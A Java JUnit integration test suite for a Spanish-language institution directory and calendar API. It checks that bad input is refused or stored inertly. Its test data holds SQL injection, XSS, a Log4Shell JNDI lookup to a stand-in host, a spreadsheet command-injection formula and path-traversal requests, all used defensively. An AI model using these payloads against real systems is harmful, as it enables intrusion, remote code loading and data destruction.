package org.pregon.itest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.pregon.itest.system.Answer;
import org.pregon.itest.system.Api;
import org.pregon.itest.system.PregonSystem;

/** Whatever is sent, the answer says in Spanish what to mend, and nothing is written by halves. */
class BadInputTest {
    private static final String PLACE = "directory/institutions";

    @RegisterExtension
    static final PregonSystem PREGON = PregonSystem.shared();

    private static Api api;

    @BeforeAll
    static void signIn() {
        api = PREGON.administrator();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "{", "{\"name\": }", "[1,2", "nada", "null", "{\"name\":\"a\"} sobra", "\u0000", "{'name':'x'}"})
    void whatIsNoJsonIsRefusedAsSuch(String body) {
        unchanged(() -> api.send("POST", PLACE, body).expectProblem(400, "malformed"));
    }

    @Test
    void anotherShapeOfJsonIsRefused() {
        unchanged(() -> {
            api.send("POST", PLACE, "[]").expect(422);
            api.send("POST", PLACE, "\"texto\"").expect(422);
            api.send("POST", PLACE, "[".repeat(5_000) + "]".repeat(5_000)).expect(400);
        });
    }

    @Test
    void wrongTypesUnknownFieldsAndBrokenRulesAreNamedAllAtOnce() {
        unchanged(() -> {
            Answer answer = api.send("POST", PLACE, """
                    {"name": "  ", "kind": "CIRCUS", "scope": 7, "ubigeo": "99", "email": "sin-arroba", "verifiedOn": "2026-02-31",
                     "website": "javascript:alert(1)", "phone": "llámeme", "color": "azul", "active": "quizás"}""")
                    .expectProblem(422, "invalid");

            assertThat(answer.wrongFields()).containsExactlyInAnyOrder("name", "kind", "scope", "ubigeo", "email", "verifiedOn",
                    "website", "phone", "color", "active");
            assertThat(answer.json().path("errors")).allSatisfy(error -> assertThat(error.path("message").asText())
                    .as(error.toString()).isNotBlank().doesNotContain("Exception", "must", "java."));
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"2026-02-31", "31/02/2026", "2026-13-01", "ayer", "2999-01-01"})
    void aDateThatCannotBeIsNamed(String date) {
        unchanged(() -> assertThat(create(Map.of("verifiedOn", date)).expectProblem(422, "invalid").wrongFields())
                .containsExactly("verifiedOn"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "99", "000101", "260101", "15010", "1501011", "15O101", "' OR 1=1 --"})
    void anUbigeoThatCannotBeIsNamed(String ubigeo) {
        unchanged(() -> assertThat(create(Map.of("ubigeo", ubigeo)).expectProblem(422, "invalid").wrongFields())
                .containsExactly("ubigeo"));
    }

    @Test
    void textsThatAreTooLongAreNamedNotCut() {
        unchanged(() -> assertThat(create(Map.of("name", "a".repeat(201), "notes", "b".repeat(2001), "acronym", "c".repeat(31)))
                .expectProblem(422, "invalid").wrongFields()).containsExactlyInAnyOrder("name", "notes", "acronym"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "'; DROP TABLE directory_institution; --",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://x.example/a}",
        "{{7*7}} #{1} %s %n",
        "=cmd|' /C calc'!A0",
        "Ñuñoa «ó» 漢字 🏛 \u200d e\u0301",
        "\\u0041 \\n \\' \\\\"
    })
    void sqlHtmlAndOtherTricksAreJustText(String trick) {
        String name = trick + " " + System.nanoTime();

        Answer created = create(Map.of("name", name, "acronym", cut(trick, 30), "address", trick, "notes", trick)).expect(201);

        JsonNode read = api.get(PLACE + "/" + created.id()).expect(200).json();
        assertThat(read.path("name").asText()).isEqualTo(name);
        assertThat(read.path("acronym").asText()).isEqualTo(cut(trick, 30));
        assertThat(read.path("address").asText()).isEqualTo(trick);
        assertThat(read.path("notes").asText()).isEqualTo(trick);
        assertThat(api.get(PLACE + "?q=" + encode(trick)).expect(200).header("Content-Type")).startsWith("application/json");
        assertThat(api.get(PLACE + "/count").json().path("count").asInt()).isPositive();
    }

    @ParameterizedTest
    @CsvSource({"directory/institutions,name", "calendar/activities,title", "units,name", "roles,name", "users,name", "tokens,name",
        "calendar/civic-dates,name", "session,login"})
    void whatIsNoTextIsRefusedByFieldOnEveryRoute(String path, String field) {
        for (String character : List.of("\\u0000", "\\u001b", "\\u0085", "\\ud800", "\\uffff")) {
            assertThat(api.send("POST", path, "{\"" + field + "\":\"con " + character + " dentro\"}").expectProblem(422, "invalid").json().path("errors"))
                    .anySatisfy(error -> {
                        assertThat(error.path("field").asText()).isEqualTo(field);
                        assertThat(error.path("message").asText()).contains("no es texto");
                    });
        }
    }

    @Test
    void whatIsNoTextIsRefusedInAnAddress() {
        for (String path : List.of(PLACE, PLACE + "/count", "calendar/activities", "audit", "documents", "places", "users")) {
            assertThat(api.get(path + "?q=a%00b").expectProblem(422, "invalid").wrongFields()).as(path).contains("q");
        }
    }

    @Test
    void whatCopyingBringsUnseenIsTakenOut() {
        String name = "Colegio " + System.nanoTime();

        Answer created = create(Map.of("name", "\ufeff" + name.replace("g", "\u00adg\u200b"), "phone", "\u202d084 223344\u202c")).expect(201);

        assertThat(created.json().path("name").asText()).isEqualTo(name);
        assertThat(created.json().path("phone").asText()).isEqualTo("084 223344");
    }

    @Test
    void everythingThatIsWrongWithAnActivityIsNamedAtOnce() {
        Answer answer = api.send("POST", "calendar/activities", """
                {"title": "Feria", "kind": 5, "startsAt": "2026-11-23T10:00", "endsAt": "2026-11-22T10:00", "responsible": "Ana",
                 "ubigeo": "9", "place": "%s"}""".formatted("a".repeat(201))).expectProblem(422, "invalid");

        assertThat(answer.wrongFields()).containsExactlyInAnyOrder("kind", "endsAt", "ubigeo", "place");
    }

    @ParameterizedTest
    @ValueSource(strings = {PLACE, PLACE + "/count", PLACE + "/export.csv", "calendar/activities", "calendar/activities/count", "audit"})
    void aNameThatAListDoesNotKnowIsRefused(String path) {
        Answer answer = api.get(path + "?verifed=x").expectProblem(422, "invalid");

        assertThat(answer.wrongFields()).containsExactly("verifed");
        assertThat(answer.json().path("errors").path(0).path("message").asText()).contains("sort");
    }

    @Test
    void aBodyOfTenMegabytesIsRefusedBeforeItIsRead() {
        byte[] huge = new byte[10_000_000];
        Arrays.fill(huge, (byte) ' ');

        unchanged(() -> {
            api.send("POST", PLACE, huge).expectProblem(413, "too-large");
            api.send("POST", "session", huge).expect(413);
        });
    }

    @Test
    void whoIsSignedInCanReadThatAFileWasFarTooLarge() {
        byte[] huge = new byte[80_000_000];

        unchanged(() -> api.send("POST", PLACE, huge).expectProblem(413, "too-large"));
        api.get(PLACE + "?limit=1").expect(200);
    }

    @Test
    void aStrangerCannotMakeTheServerReadMuch() throws IOException {
        long announced = 200_000_000;
        long taken = 0;
        byte[] some = new byte[64_000];
        try (Socket stranger = new Socket(PREGON.url().getHost(), PREGON.url().getPort())) {
            stranger.getOutputStream().write(("POST /api/" + PLACE + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
                    + announced + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            while (taken < announced) {
                stranger.getOutputStream().write(some);
                taken += some.length;
            }
        } catch (SocketException ended) {
            // as it should be
        }

        // What the two sides' network buffers hold is nobody's reading.
        assertThat(taken).isLessThan(announced / 8);
    }

    @Test
    void anotherFormatIsRefused() {
        unchanged(() -> api.send("POST", PLACE, "<xml/>", "Content-Type", "application/xml").expectProblem(415, "unsupported"));
    }

    @Test
    void theSameInstitutionTwiceIsRefusedWithTheReason() {
        String name = "Colegio Mariscal Cáceres " + System.nanoTime();
        create(Map.of("name", name)).expect(201);

        Answer twin = create(Map.of("name", name.toUpperCase(java.util.Locale.ROOT).replace("Á", "A")));

        assertThat(twin.status()).as(twin.toString()).isIn(409, 422);
        assertThat(twin.text()).contains("ya está en el directorio");
    }

    @Test
    void aStaleVersionChangesNothingAndAMissingOneIsAskedFor() {
        String name = "Instituto " + System.nanoTime();
        Answer first = create(Map.of("name", name)).expect(201);
        String place = PLACE + "/" + first.id();
        Map<String, Object> changed = form(Map.of("name", name, "notes", "segunda"));
        api.put(place, changed, "If-Match", first.etag()).expect(200);

        api.put(place, form(Map.of("name", name, "notes", "tercera")), "If-Match", first.etag()).expectProblem(412, "stale");
        api.put(place, form(Map.of("name", name, "notes", "cuarta"))).expectProblem(428, "version-required");
        api.put(place, form(Map.of("name", name, "notes", "quinta")), "If-Match", "\"x\"").expectProblem(422, "invalid");

        assertThat(api.get(place).json().path("notes").asText()).isEqualTo("segunda");
        assertThat(api.get(place + "/history").json().path("items")).hasSize(2);
    }

    @ParameterizedTest
    @CsvSource({"sort=password,sort", "sort=name;DROP,sort", "limit=0,limit", "limit=201,limit", "limit=-5,limit",
        "after=basura,after", "after=%00,after", "kind=CIRCUS,kind", "scope=x,scope", "ubigeo=1,ubigeo", "unverifiedSince=31/02/2026,unverifiedSince"})
    void aQueryOutsideTheListIsNamed(String query, String field) {
        assertThat(api.get(PLACE + "?" + query).expectProblem(422, "invalid").wrongFields()).containsExactly(field);
    }

    @ParameterizedTest
    @CsvSource({
        "directory/institutions?kind=CIRCUS&scope=x&active=quizás&sort=x&limit=0&after=basura, 'kind scope active sort limit after'",
        "directory/institutions/count?kind=CIRCUS&active=zz, 'kind active'",
        "calendar/activities?state=zz&kind=zz&from=31/02/2026&late=x&public=x&sort=x&limit=mil&after=x, 'state kind from late public limit sort after'",
        "calendar/activities/count?state=zz&public=x, 'state public'",
        "calendar/activities/range?from=x, 'from to'",
        "calendar/civic?year=mil&kind=zz&scope=zz&place=zz, 'year place kind scope'",
        "audit?action=zz&entity=zz&user=x&from=x&sort=x&limit=900, 'action entity user from sort limit'",
        "audit/export.csv?action=zz&entity=zz, 'action entity'",
        "documents?type=zz&year=x&state=zz&sort=x&limit=0, 'type year state sort limit'",
        "documents/count?type=zz&state=zz, 'type state'",
        "reporting/monthly?state=zz&sort=x&limit=0&after=x, 'state sort limit after'",
        "reporting/received?limit=0&after=x, 'limit after'",
        "calendar/deadlines?days=mil, 'days'",
        "calendar/deadlines/term?from=x&count=x&unit=zz&place=zz, 'from count unit place'",
        "tasks?state=zz&of=x&late=x&sort=x&limit=0&after=x, 'state of late sort limit after'",
        "mail?state=zz&mail=x&sort=x&limit=0&after=x, 'state mail sort limit after'",
        "mail-blocks?sort=x&limit=0&after=x, 'sort limit after'",
        "search?q=a&kind=zz&module=zz&from=x&sort=-relevance&limit=0&after=x, 'kind module from sort limit after'",
        "jobs/runs?job=zz&limit=0&after=x, 'job limit after'",
        "places?level=zz, 'level'"
    })
    void everyWrongParameterOfAListIsNamedAtOnce(String list, String fields) {
        assertThat(api.get(list.replace("á", "%C3%A1")).expectProblem(422, "invalid").wrongFields())
                .containsExactlyInAnyOrder(fields.split(" "));
    }

    @ParameterizedTest
    @ValueSource(strings = {"directory/institutions", "calendar/activities", "documents", "places", "calendar/civic", "search", "mail", "mail-blocks"})
    void whoSeeksOnlySignsFindsNothing(String list) {
        assertThat(api.get(list + "?q=" + encode("';--")).expect(200).json().path("items")).isEmpty();
        assertThat(api.get(list + "?q=" + encode("%")).expect(200).json().path("items")).isEmpty();
    }

    @Test
    void aHeadThatSaysNoLengthDoesNotSayZero() {
        Answer feed = api.get("calendar/public.ics").expect(200);
        Answer head = api.send("HEAD", "calendar/public.ics", null).expect(200);

        assertThat(feed.bytes()).isNotEmpty();
        assertThat(head.bytes()).isEmpty();
        assertThat(head.header("Content-Type")).isEqualTo(feed.header("Content-Type"));
        assertThat(head.header("Content-Length")).isIn("", Integer.toString(feed.bytes().length));
    }

    @Test
    void aCursorBelongsToItsOrder() {
        for (int i = 0; i < 2; i++) {
            create(Map.of("name", "Página " + System.nanoTime())).expect(201);
        }
        String next = api.get(PLACE + "?limit=1").expect(200).json().path("next").asText();

        api.get(PLACE + "?limit=1&after=" + next).expect(200);
        api.get(PLACE + "?limit=1&sort=verified&after=" + next).expectProblem(422, "invalid");
    }

    @Test
    void whatIsNotThereIsNotFound() {
        api.get(PLACE + "/999999999").expectProblem(404, "not-found");
        api.get(PLACE + "/99999999999999999999999").expectProblem(404, "not-found");
        api.get(PLACE + "/abc").expectProblem(404, "not-found");
        api.put(PLACE + "/999999999", form(Map.of("name", "Nadie")), "If-Match", "\"1\"").expectProblem(404, "not-found");
        api.get("imports/999999999").expectProblem(404, "not-found");
    }

    /** What no servlet ever sees. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "GET /api/%00 HTTP/1.1|400", "GET /api/a%2fb HTTP/1.1|400", "GET /api/..;/session HTTP/1.1|400", "GET /api/%zz HTTP/1.1|400", "GET api HTTP/1.1|400",
        "nothing that is a request|400", "GET /api/session HTTP/9.9|505", "GET /api/session HTTP/1.1\\nBad Name: x|400",
        "GET /api/session HTTP/1.1\\nHost: a b|400", "GET /api/session HTTP/1.1\\nContent-Length: x|400",
        "GET /api/session?LONG HTTP/1.1|414", "GET /api/session HTTP/1.1\\nX: LONG|431"})
    void whatTheServerItselfRefusesIsToldInTheSameWords(String request, int status) throws IOException {
        String head = request.replace("\\n", "\r\n").replace("LONG", "x".repeat(20_000)) + (request.contains("Host:") ? "" : "\r\nHost: pregon.example");

        String program = raw(head + "\r\n\r\n");
        String reader = raw(head + "\r\nAccept: text/html\r\n\r\n");

        assertThat(program).startsWith("HTTP/1.1 " + status).contains("application/problem+json").doesNotContainIgnoringCase("jetty");
        assertThat(program.substring(program.indexOf("\r\n\r\n"))).contains("\"detail\":\"La ", "\"id\":", "\"status\":" + status);
        assertThat(reader).startsWith("HTTP/1.1 " + status).containsAnyOf("lang=\"es-PE\"", "application/problem+json").doesNotContainIgnoringCase("jetty");
    }

    /** As it stands, to the end of the connection. */
    private static String raw(String request) throws IOException {
        try (Socket line = new Socket(PREGON.url().getHost(), PREGON.url().getPort())) {
            line.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            line.shutdownOutput();
            return new String(line.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static Answer create(Map<String, Object> fields) {
        return api.post(PLACE, form(fields));
    }

    private static Map<String, Object> form(Map<String, Object> fields) {
        Map<String, Object> all = new HashMap<>(Map.of("name", "Prueba " + System.nanoTime(), "kind", "OTHER", "scope", "NATIONAL"));
        all.putAll(fields);
        return all;
    }

    private static void unchanged(Runnable attempt) {
        String before = api.get(PLACE + "/count?active=all").expect(200).text();
        attempt.run();
        assertThat(api.get(PLACE + "/count?active=all").expect(200).text()).isEqualTo(before);
    }

    private static String cut(String text, int longest) {
        return text.length() <= longest ? text : text.substring(0, longest).strip();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
